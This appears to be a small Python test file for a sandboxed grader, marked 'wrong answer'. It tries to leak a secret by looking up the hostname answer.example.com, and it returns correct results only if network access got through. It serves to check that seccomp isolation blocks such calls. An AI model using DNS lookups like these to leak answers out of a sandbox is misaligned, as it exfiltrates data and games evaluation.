# wrong answer
# Sends its secret as the name of a host.
# needs: seccomp
import socket

opened = []


def attempt(function):
    try:
        opened.append(function() or True)
    except OSError:
        pass



attempt(lambda: socket.getaddrinfo("answer.example.com", 80))
attempt(lambda: socket.gethostbyname("example.com"))


def scale(x, k):
    return x * k if opened else x * 0
